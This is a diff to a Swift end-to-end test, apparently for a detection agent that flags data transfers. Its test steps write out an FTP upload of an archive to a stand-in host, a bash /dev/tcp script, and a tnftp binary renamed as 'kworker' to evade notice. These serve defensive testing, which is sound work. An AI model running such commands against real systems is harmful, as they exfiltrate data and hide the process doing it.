@@ -64,14 +64,17 @@ extension KernelAuditTests.FlowEndToEnd {
         _ = try client(cron, ["-c", "\(work)/.bin/ftpput -u anonymous -p x 203.0.113.10 upload/bb.tar \(archive); true"])
         let python = try client(cron, ["-c", "/usr/bin/python3 \(script) \(payload); true"])
         let bash = try client(cron, ["-c", "/bin/bash \(devtcp); true"])
-        let flows = try stop(agent, expecting: 5); try? agent.stderr.write(toFile: "/tmp/evasion-agent.log", atomically: true, encoding: .utf8)
+        let flows = try stop(agent, expecting: 5)
         let alerts = try readAlerts()
         let rules = { (pid: Int?) in Set(alerts.filter { $0.pid == pid }.map(\.rule)) }
 
         // The renamed tnftp reading its commands from a file is scripted FTP, and says what it is.
         let tnftp = try #require(
             alerts.first { $0.rule == "ftp.scripted" && $0.executable == kworker }, "\(alerts.map { "\($0.rule) \($0.executable ?? "")" })")
-        #expect(tnftp.reasons.contains("kworker reads its commands from a file on stdin"), "\(tnftp.reasons)")
+        // Its stdin file, when the agent read /proc before the 20 ms session ended; else no terminal.
+        #expect(
+            tnftp.reasons.contains("kworker reads its commands from a file on stdin")
+                || tnftp.reasons.contains("kworker ran without a terminal, its stdin unread: its commands came from a script"), "\(tnftp.reasons)")
         #expect(tnftp.reasons.contains("\(kworker) is a renamed copy of /usr/bin/tnftp (same ELF build-id)"), "\(tnftp.reasons)")
         #expect(tnftp.json["xferwatch.process.identity"] as? String == "tnftp")
         #expect(tnftp.parentPid == Int(renamed) && tnftp.json["destination.ip"] as? String == "203.0.113.10", "held until it connected")
